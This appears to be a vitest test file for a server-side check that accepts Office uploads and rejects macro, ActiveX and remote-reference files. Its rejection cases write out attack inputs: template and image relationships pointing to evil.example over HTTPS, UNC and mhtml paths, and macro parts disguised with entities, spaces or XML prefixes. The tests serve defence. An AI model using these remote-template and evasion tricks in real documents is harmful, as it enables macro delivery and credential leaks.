import { describe, expect, test } from 'vitest'
import { archive, office } from '#tests/support/files.ts'
import { acceptFile } from './accepted-file.ts'

const officeType = 'application/vnd.openxmlformats-officedocument'
const otherKind = { why: 'invalid', status: 415, message: expect.stringContaining('a docx, xlsx or pptx file') }

test.each([
  ['docx', `${officeType}.wordprocessingml.document`],
  ['xlsx', `${officeType}.spreadsheetml.sheet`],
  ['pptx', `${officeType}.presentationml.presentation`],
] as const)('a %s file is stored as it is', async (ending, contentType) => {
  const bytes = await office(ending)
  expect(await acceptFile(bytes)).toEqual({ bytes, contentType, ending })
})

test('the main part may have another name, and the list may use other quotes', async () => {
  const types = `<Types><Override ContentType='${officeType}.wordprocessingml.document.main+xml' PartName='/word/document2.xml'/></Types>`
  expect(
    await acceptFile(await archive({ '[Content_Types].xml': types, 'word/document2.xml': '<document/>' })),
  ).toMatchObject({ ending: 'docx' })
})

const relationship = (type: string, target: string, mode = 'External') =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`

test.each<[string, string]>([
  ['a link', relationship('hyperlink', 'https://aea.example/')],
  ['a film that plays when it is pressed', relationship('video', 'https://films.example/1')],
  ['a picture in it', relationship('image', 'media/image1.png', 'Internal')],
  ["a picture that lay on the writer's disk", relationship('image', 'file:///C:\\Users\\maria\\Pictures\\bridge.png')],
  ['a template of its own', relationship('attachedTemplate', 'template.dotx', 'Internal')],
  ...[
    'file:///C:\\Users\\maria\\Templates\\Letter.dotx',
    'C:\\Templates\\Letter.dotx',
    'file:///Users/maria/Letter.dotx',
    'Letter.dotx',
  ].map((target): [string, string] => [
    `a template that lay on the writer's disk at ${target}`,
    relationship('attachedTemplate', target),
  ]),
])('a text document may name %s', async (_what, rels) => {
  expect(await acceptFile(await office('docx', { 'word/_rels/settings.xml.rels': rels }))).toMatchObject({
    ending: 'docx',
  })
})

describe('rejected files', () => {
  const types = (part: string, type: string) => `<Types><Override PartName="/${part}" ContentType="${type}"/></Types>`

  test.each<[string, () => Promise<Buffer>]>([
    ['a renamed archive', () => archive({ 'readme.txt': 'hello' })],
    ['an archive with the right folder and no list of parts', () => archive({ 'word/document.xml': '<document/>' })],
    [
      'an archive whose main part is not there',
      () =>
        archive({
          '[Content_Types].xml': types('word/document.xml', `${officeType}.wordprocessingml.document.main+xml`),
        }),
    ],
    [
      'a template',
      () =>
        archive({
          '[Content_Types].xml': types('word/document.xml', `${officeType}.wordprocessingml.template.main+xml`),
          'word/document.xml': '',
        }),
    ],
    ['a file that was cut off on its way', async () => (await office('docx')).subarray(0, -30)],
    ['an archive that says it has more parts than it has', async () => withCount(await office('docx'), 60_000)],
    ['an archive with two parts of one name', () => office('docx', { 'word/Document.xml': '<document/>' })],
    [
      'a list of parts that is no XML',
      () =>
        office('docx', {
          '[Content_Types].xml': `${types('word/document.xml', `${officeType}.wordprocessingml.document.main+xml`)}<Types>`,
        }),
    ],
    [
      'a list of relationships that is no XML',
      () => office('docx', { 'word/_rels/settings.xml.rels': '<Relationships>' }),
    ],
    [
      'a list of relationships that becomes very long',
      () => office('docx', { 'word/_rels/settings.xml.rels': ' '.repeat(6_000_000) }),
    ],
    ['a list of parts that becomes very long', () => office('xlsx', { '[Content_Types].xml': ' '.repeat(3_000_000) })],
  ])('%s', async (_kind, made) => {
    await expect(acceptFile(await made())).rejects.toMatchObject(otherKind)
  })

  test.each<[string, () => Promise<Buffer>]>([
    [
      'a macro file',
      () =>
        archive({
          '[Content_Types].xml': types('word/document.xml', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
          'word/document.xml': '',
        }),
    ],
    ['a letter with a macro in it', () => office('docx', { 'word/vbaProject.bin': 'x' })],
    [
      'a letter whose list says so between spaces',
      () => listing('<Override PartName = "/word/helper.bin" ContentType = "application/vnd.ms-office.vbaProject"/>'),
    ],
    [
      'a letter whose list says so in entities',
      () =>
        listing('<Override PartName="/word/helper.bin" ContentType="application/vnd.ms-office.&#118;&#98;aProject"/>'),
    ],
    [
      'a letter whose list says so behind a prefix',
      () =>
        listing(
          '<o:Override xmlns:o="urn:o" PartName="/word/helper.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
    ],
    ['a workbook with ActiveX', () => office('xlsx', { 'xl/activeX/activeX1.bin': 'x' })],
  ])('%s, with a message', async (_kind, made) => {
    await expect(acceptFile(await made())).rejects.toMatchObject({
      why: 'invalid',
      status: 400,
      message: expect.stringContaining('This file has macros'),
    })
  })

  test.each<[string, string]>([
    ...[
      'https://evil.example/x.dotm',
      '\\\\evil.example\\x.dotm',
      '//evil.example/x.dotm',
      'file://evil.example/x.dotm',
      'file:////evil.example/x.dotm',
      'file:///\\\\evil.example\\x.dotm',
      'file:///%5C%5Cevil.example%5Cx.dotm',
    ].map((target): [string, string] => [
      `a letter whose template lies at ${target}`,
      relationship('attachedTemplate', target),
    ]),
    [
      'a letter whose template says so in entities',
      relationship('attached&#84;emplate', 'https://evil.example/x.dotm', 'E&#120;ternal'),
    ],
    ...['https://evil.example/x.png', '\\\\evil.example\\share\\x.png'].map((target): [string, string] => [
      `a letter with a picture at ${target}`,
      relationship('image', target),
    ]),
    ...['oleObject', 'package', 'frame', 'subDocument'].map((type): [string, string] => [
      `a letter with a ${type} elsewhere`,
      relationship(type, 'mhtml:https://evil.example/x!x'),
    ]),
  ])('%s, with a message', async (_kind, rels) => {
    const refusal = {
      why: 'invalid',
      status: 400,
      message: expect.stringContaining('from another computer when it is opened'),
    }
    await expect(acceptFile(await office('docx', { 'word/_rels/settings.xml.RELS': rels }))).rejects.toMatchObject(
      refusal,
    )
  })
})

/** A text document with one more entry in its list of types, and the part that the entry names. */
function listing(entry: string): Promise<Buffer> {
  const main = `<Override PartName="/word/document.xml" ContentType="${officeType}.wordprocessingml.document.main+xml"/>`
  return office('docx', { '[Content_Types].xml': `<Types>${main}${entry}</Types>`, 'word/helper.bin': 'x' })
}

/** Sets the number of parts in an archive's last record. */
function withCount(bytes: Buffer, count: number): Buffer {
  const changed = Buffer.from(bytes)
  const end = changed.lastIndexOf(Buffer.from('504b0506', 'hex'))
  changed.writeUInt16LE(count, end + 8)
  changed.writeUInt16LE(count, end + 10)
  return changed
}
